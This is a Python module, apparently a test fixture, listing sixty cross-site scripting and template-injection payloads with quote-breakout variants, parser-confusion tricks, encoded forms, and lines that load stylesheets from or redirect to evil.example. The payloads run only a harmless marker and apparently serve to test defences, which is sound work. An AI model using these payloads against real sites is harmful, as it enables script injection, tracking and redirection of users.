"""Sixty texts that a hostile site may hand to whoever reads its records and pages (X8)."""

RUN = "window.executed=1"
QUOTES = ("", '"', "'", '">', "'>", "--></x>")

PAYLOADS: tuple[str, ...] = (
    *(f"{quote}<script>{RUN}</script>" for quote in QUOTES),
    *(f"{quote}<img src=x onerror={RUN}>" for quote in QUOTES),
    *(f"{quote}<svg onload={RUN}>" for quote in QUOTES),
    *(f"{quote}<body onload={RUN}>" for quote in QUOTES),
    *(f"{quote} onmouseover={RUN} x={quote}" for quote in QUOTES),
    *(f"{quote} autofocus onfocus={RUN} x={quote}" for quote in QUOTES),
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<a href=javascript:{RUN}>open</a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<style>@import'javascript:{RUN}';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<div hx-get=/ hx-trigger=load hx-on::after-request={RUN}>",
    f"<div hx-on:load={RUN} data-hx-get=/></div>",
    "{{ request.user.email }}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
)
